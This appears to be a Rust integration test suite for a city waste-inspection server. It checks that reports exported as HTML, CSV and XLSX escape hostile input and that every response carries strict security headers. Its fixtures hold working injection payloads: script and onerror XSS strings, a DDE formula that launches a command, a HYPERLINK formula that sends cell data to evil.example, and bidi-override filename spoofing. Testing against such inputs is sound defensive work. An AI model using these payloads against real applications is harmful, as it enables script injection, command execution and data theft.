//! Hostile values on their way out (docs/bulletins.md, "Safe output"): a real server process, an
//! inspector whose note, a community name from the city's list and a crafted evidence hash carry
//! markup, spreadsheet formulas and bidi controls, and a supervisor who reads the bulletins as
//! HTML, CSV and XLSX. What comes out is text, never markup, a formula or a reordered line; every
//! response carries the security headers; the `base` parameter is checked, never reflected.

mod common;

use automerge::transaction::{CommitOptions, Transactable};
use automerge::{ObjType, ROOT, ReadDoc};
use common::raw::push_by_hand;
use common::*;
use fenlei_core::answer::{AnswerValue, ItemAnswer, OccurrenceCount};
use fenlei_core::inspection::{
    EditContext, EvidenceRef, InspectionKind, InspectionStatus, MediaKind, NewInspection,
};
use fenlei_core::progress::{CancelToken, NoProgress};
use serde_json::Value;

const PHOTO: &str = "5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f";
/// An evidence "hash" that closes the `src` attribute and opens a script.
const CRAFTED_HASH: &str =
    "\"><script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2";
/// An inspector's note: a formula, markup, an attribute break-out and a right-to-left override.
const NOTE: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")<script>window.__pwned=1</script>\"onerror=alert(1) 满溢\u{202E}gpj.exe";
/// A community name from the city's list: a formula first, markup and bidi controls after.
const COMMUNITY_NAME: &str =
    "=cmd|'/C calc'!A0<img src=x onerror=alert(1)>\u{2066}小区\u{2069}\u{200F}";
const BIDI: &[char] = &[
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}',
    '\u{2069}', '\u{200E}', '\u{200F}',
];

/// Renames community `id` through the admin's CSV import (the city's list is where names
/// come from).
fn rename_community(c: &City, id: &str, name: &str) {
    let all = fenlei_core::community::parse_csv(fenlei_core::sample::CITY_CSV.as_bytes()).unwrap();
    let row = all.iter().find(|x| x.id == id).unwrap();
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let csv = format!(
        "小区编号,小区名称,区,街道,纬度,经度\n{},{},{},{},{},{}\n",
        q(&row.id),
        q(name),
        q(&row.district),
        q(&row.street),
        row.location.lat,
        row.location.lon
    );
    let path = c.server.data.join("hostile-communities.csv");
    std::fs::write(&path, csv).unwrap();
    c.server
        .admin(&["import-communities", path.to_str().unwrap()]);
}

/// A draft with a C01 finding (`count` × `finding`, the note given) and one photo; returns its id.
fn draft_with_finding(
    d: &Device,
    community: &str,
    note: &str,
    finding: &str,
    count: u32,
) -> String {
    let id = d
        .store
        .create_inspection(
            &NewInspection {
                community_id: community.into(),
                standard_id: "hohhot-residential".into(),
                standard_version: "2026.1".into(),
                kind: InspectionKind::DailyPatrol,
                co_inspectors: vec![],
            },
            &d.user,
        )
        .unwrap();
    let ctx = EditContext::by(&d.user);
    d.store
        .record_answer(
            &id,
            &ItemAnswer {
                item_code: "C01".into(),
                value: AnswerValue::Occurrences {
                    counts: vec![OccurrenceCount {
                        finding: finding.into(),
                        count,
                    }],
                },
                sampled_units: None,
                note: Some(note.into()),
            },
            &ctx,
        )
        .unwrap();
    d.store
        .add_evidence(
            &id,
            &EvidenceRef {
                sha256: PHOTO.into(),
                item_code: "C01".into(),
                media: MediaKind::Photo,
                added_by: d.user.clone(),
                at_ms: d.store.now_ms(),
                thumb: None,
                upload: None,
                device_id: String::new(),
            },
        )
        .unwrap();
    id
}

fn submit(d: &Device, id: &str) {
    d.store
        .set_status(
            id,
            InspectionStatus::Submitted,
            &EditContext::by(&d.user),
            None,
        )
        .unwrap();
}

/// Rewrites the `sha256` field of every evidence entry of `id` in a raw copy of the device's
/// document (the core's own API refuses such a value) and pushes it by hand. Returns the
/// server's status.
fn push_crafted_hash(d: &Device, id: &str) -> u16 {
    let bytes = d.store.document_bytes(id).unwrap();
    let mut doc = automerge::AutoCommit::load(&bytes).unwrap();
    doc.set_actor(fenlei_core::docrules::actor_of(d.store.device_id()).unwrap());
    let evidence = match doc.get(ROOT, "evidence").unwrap() {
        Some((automerge::Value::Object(ObjType::Map), obj)) => obj,
        other => panic!("no evidence map: {other:?}"),
    };
    let entries: Vec<_> = doc
        .map_range(&evidence, ..)
        .map(|e| e.id().clone())
        .collect();
    assert!(!entries.is_empty());
    for entry in entries {
        doc.put(&entry, "sha256", CRAFTED_HASH).unwrap();
    }
    let note = serde_json::json!({"by": d.user, "action": "evidence", "item": "C01"});
    doc.commit_with(
        CommitOptions::default()
            .with_message(note.to_string())
            .with_time(d.store.now_ms()),
    );
    push_by_hand(&d.url, &d.token, id, &mut doc).status
}

fn get(url: &str, token: &str) -> reqwest::blocking::Response {
    reqwest::blocking::Client::new()
        .get(url)
        .bearer_auth(token)
        .send()
        .unwrap()
}

fn header(resp: &reqwest::blocking::Response, name: &str) -> String {
    resp.headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string()
}

/// The text an HTML page shows for its character references (the ones an escaper writes).
fn unescape(html: &str) -> String {
    [
        ("&#60;", "<"),
        ("&lt;", "<"),
        ("&#62;", ">"),
        ("&gt;", ">"),
        ("&#34;", "\""),
        ("&quot;", "\""),
        ("&#39;", "'"),
        ("&#38;", "&"),
        ("&amp;", "&"),
    ]
    .iter()
    .fold(html.to_string(), |t, (from, to)| t.replace(from, to))
}

/// Every `src` attribute value in `html` (the page has only double-quoted attributes).
fn srcs(html: &str) -> Vec<String> {
    html.split(" src=\"")
        .skip(1)
        .map(|rest| rest.split('"').next().unwrap().to_string())
        .collect()
}

/// `src` is a thumbnail link built from a well-formed hash: `{base}/v1/media/<64 hex>?rendition=thumb`.
fn is_thumb_link(src: &str, base: &str) -> bool {
    src.strip_prefix(base)
        .and_then(|s| s.strip_prefix("/v1/media/"))
        .and_then(|s| s.strip_suffix("?rendition=thumb"))
        .is_some_and(fenlei_core::protocol::media::is_sha256_hex)
}

#[test]
fn hostile_text_reaches_bulletins_as_inert_text() {
    let c = city();
    let url = c.server.url();
    rename_community(&c, &c.communities[0], COMMUNITY_NAME);
    c.a.sync();
    let id = draft_with_finding(&c.a, &c.communities[0], NOTE, "overflow", 2);
    submit(&c.a, &id);
    c.a.sync();

    // HTML: the note and the name are shown, escaped; nothing they carry became markup.
    let resp = get(&format!("{url}/v1/reports/weekly.html"), &c.sup.token);
    assert_eq!(resp.status().as_u16(), 200);
    let html = resp.text().unwrap();
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("<img src=x"), "{html}");
    assert!(!html.contains("\"onerror"), "{html}");
    let shown = unescape(&html);
    assert!(
        shown.contains(&NOTE.replace(BIDI, "")),
        "the note is shown as text: {html}"
    );
    assert!(
        shown.contains(&COMMUNITY_NAME.replace(BIDI, "")),
        "the name is shown as text: {html}"
    );
    assert!(!html.contains(BIDI), "bidi controls removed: {html}");
    assert!(html.contains("满溢gpj.exe"), "{html}");
    assert!(html.contains("小区"), "{html}");
    for src in srcs(&html) {
        assert!(is_thumb_link(&src, ""), "{src}");
    }
    assert_eq!(srcs(&html).len(), 1, "the one photo: {html}");

    // CSV: the name's formula is neutralised, numbers stay numbers, no bidi controls.
    let resp = get(&format!("{url}/v1/reports/weekly.csv"), &c.sup.token);
    assert_eq!(resp.status().as_u16(), 200);
    let text = resp.text().unwrap();
    assert!(!text.contains(BIDI), "{text}");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = rows
        .iter()
        .find(|r| r.get(1) == Some(c.communities[0].as_str()))
        .expect("the hostile community is ranked");
    assert!(
        row.get(2).unwrap().starts_with("'=cmd|"),
        "formula neutralised: {row:?}"
    );
    assert!(
        row.get(2).unwrap().contains("<img src=x"),
        "text kept: {row:?}"
    );
    for r in &rows {
        for cell in r.iter() {
            let number = cell.parse::<f64>().is_ok();
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(number || !formula, "{cell:?} in {r:?}");
        }
        assert!(
            r.get(0).unwrap().parse::<u32>().is_ok(),
            "the rank is a plain number: {r:?}"
        );
    }

    // XLSX: the note and the name are string cells, never formulas or links.
    use calamine::{Data, Reader, Xlsx};
    let resp = get(&format!("{url}/v1/reports/weekly.xlsx"), &c.sup.token);
    assert_eq!(resp.status().as_u16(), 200);
    let bytes = resp.bytes().unwrap().to_vec();
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    for sheet in ["排名", "问题清单"] {
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no formula in {sheet}"
        );
    }
    let findings = book.worksheet_range("问题清单").unwrap();
    let note = NOTE.replace(BIDI, "");
    assert_eq!(findings.get_value((1, 7)), Some(&Data::String(note)));
    assert_eq!(
        findings.get_value((1, 4)),
        Some(&Data::String(COMMUNITY_NAME.replace(BIDI, "")))
    );
    let ranking = book.worksheet_range("排名").unwrap();
    assert_eq!(
        ranking.get_value((4, 2)),
        Some(&Data::String(COMMUNITY_NAME.replace(BIDI, "")))
    );
}

#[test]
fn a_crafted_evidence_hash_never_becomes_a_link() {
    let c = city();
    let url = c.server.url();
    c.a.sync();
    // One dirty bin (−1): below the rule's threshold, so no rectification task copies the hash.
    let id = draft_with_finding(&c.a, &c.communities[1], "桶身脏污", "dirty", 1);
    c.a.sync();
    let status = push_crafted_hash(&c.a, &id);
    // Refused where documents enter (a 4xx), or stored: either way never a 5xx.
    assert!(
        status == 200 || (400..500).contains(&status),
        "push answered {status}"
    );
    let stored = status == 200;
    eprintln!("the crafted hash's push answered {status}");
    let report =
        c.a.client()
            .sync(&c.a.store, &NoProgress, &CancelToken::new())
            .unwrap();
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    submit(&c.a, &id);
    c.a.sync();

    let resp = get(&format!("{url}/v1/reports/weekly.html"), &c.sup.token);
    assert_eq!(resp.status().as_u16(), 200);
    let html = resp.text().unwrap();
    assert!(!html.contains("<script"), "{html}");
    assert!(!html.contains("onerror=\""), "{html}");
    for src in srcs(&html) {
        assert!(is_thumb_link(&src, ""), "{src}");
    }
    if stored {
        assert!(
            html.contains("data-testid=\"photo-invalid\""),
            "the bad hash is a visible note, not an image: {html}"
        );
    }
}

#[test]
fn the_base_parameter_is_checked_not_reflected() {
    let c = city();
    let url = c.server.url();
    c.a.sync();
    let id = draft_with_finding(&c.a, &c.communities[0], "两处满溢", "overflow", 2);
    submit(&c.a, &id);
    c.a.sync();
    for bad in [
        "\"><script>window.__pwned=1</script>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example",
        "/\\evil.example",
        "https://user:secret@evil.example",
        "https://evil.example/?x=\"",
        "https://evil.example/#x",
        "ftp://evil.example",
        "relative/path",
    ] {
        for ext in ["html", "csv", "xlsx"] {
            let resp = reqwest::blocking::Client::new()
                .get(format!("{url}/v1/reports/weekly.{ext}"))
                .query(&[("base", bad)])
                .bearer_auth(&c.sup.token)
                .send()
                .unwrap();
            assert_eq!(resp.status().as_u16(), 400, "base={bad:?} .{ext}");
            let body: Value = resp.json().unwrap();
            assert_eq!(body["error"], "bad_request");
            assert!(!body["reason"].as_str().unwrap().contains(bad), "{body}");
        }
    }
    for (base, prefix) in [
        ("https://fenlei.example.org/", "https://fenlei.example.org"),
        (
            "https://fenlei.example.org/sub/",
            "https://fenlei.example.org/sub",
        ),
        ("http://127.0.0.1:8080", "http://127.0.0.1:8080"),
        ("/fenlei", "/fenlei"),
        ("", ""),
    ] {
        let resp = reqwest::blocking::Client::new()
            .get(format!("{url}/v1/reports/weekly.html"))
            .query(&[("base", base)])
            .bearer_auth(&c.sup.token)
            .send()
            .unwrap();
        assert_eq!(resp.status().as_u16(), 200, "base={base:?}");
        let html = resp.text().unwrap();
        let srcs = srcs(&html);
        assert_eq!(srcs.len(), 1, "{html}");
        assert!(is_thumb_link(&srcs[0], prefix), "{base:?}: {}", srcs[0]);
    }
}

#[test]
fn every_response_carries_security_headers_and_html_a_strict_csp() {
    let c = city();
    let url = c.server.url();
    let token = c.sup.token.clone();
    let client = reqwest::blocking::Client::new();
    let html_routes = [
        "/dashboard/",
        "/v1/reports/weekly.html",
        "/v1/reports/monthly.html",
        "/v1/reports/monthly.html?by=district&base=/x",
    ];
    let other_routes = [
        "/healthz",
        "/dashboard/app.js",
        "/dashboard/app.css",
        "/dashboard/favicon.svg",
        "/v1/me",
        "/v1/rankings",
        "/v1/reports/weekly.csv",
        "/v1/reports/weekly.xlsx",
        "/v1/reports/weekly.pdf",
        "/v1/reports/weekly.html?base=javascript:1",
        "/v1/no-such-route",
        "/v1/session",
    ];
    for path in html_routes.iter().chain(&other_routes) {
        for auth in [true, false] {
            let mut req = client.get(format!("{url}{path}"));
            if auth {
                req = req.bearer_auth(&token);
            }
            let resp = req.send().unwrap();
            let what = format!("GET {path} (auth {auth}, status {})", resp.status());
            assert_eq!(header(&resp, "x-content-type-options"), "nosniff", "{what}");
            assert_eq!(header(&resp, "referrer-policy"), "no-referrer", "{what}");
            assert_eq!(header(&resp, "x-frame-options"), "DENY", "{what}");
            let csp = header(&resp, "content-security-policy");
            assert!(csp.contains("frame-ancestors 'none'"), "{what}: {csp}");
            assert!(csp.starts_with("default-src 'none'"), "{what}: {csp}");
            assert!(!csp.contains("unsafe-"), "{what}: {csp}");
            assert!(!csp.contains('*'), "{what}: {csp}");
            assert!(csp.contains("script-src 'self';"), "{what}: {csp}");
            assert!(csp.contains("base-uri 'none'"), "{what}: {csp}");
            let html = header(&resp, "content-type").starts_with("text/html");
            if auth && html_routes.contains(path) {
                assert!(html, "{what}");
            }
            assert!(
                !html || html_routes.contains(path),
                "{what}: an HTML route the test does not list"
            );
        }
    }
    // A request refused before any handler (a cross-origin POST with a session cookie) carries
    // them too.
    let resp = client
        .post(format!("{url}/v1/inspections/x/review"))
        .header("cookie", "fenlei_session=forged")
        .header("origin", "http://evil.example")
        .header("content-type", "application/json")
        .body("{}")
        .send()
        .unwrap();
    assert_eq!(resp.status().as_u16(), 403);
    assert_eq!(header(&resp, "x-content-type-options"), "nosniff");
    assert!(header(&resp, "content-security-policy").contains("frame-ancestors 'none'"));
}
